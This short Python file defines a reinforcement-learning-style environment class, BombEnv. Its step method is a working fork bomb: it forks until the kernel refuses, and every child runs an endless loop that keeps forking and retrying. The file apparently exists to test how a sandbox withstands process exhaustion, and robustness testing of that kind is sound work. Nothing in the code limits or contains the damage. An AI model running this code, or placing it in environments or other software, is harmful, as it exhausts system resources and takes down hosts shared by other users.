"""Forks until the kernel refuses; every child keeps trying to fork too, forever."""

import os
import time


def breed():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)


class BombEnv:
    def reset(self, seed=None):
        return "ready", {}

    def step(self, action):
        born = 0
        refusal = None
        while refusal is None:
            try:
                pid = os.fork()
            except OSError as exc:
                refusal = "%s(%s)" % (type(exc).__name__, exc.errno)
                break
            if pid == 0:
                breed()
            born += 1
        return "born=%d" % born, 0.0, False, False, {"born": born, "refusal": refusal}
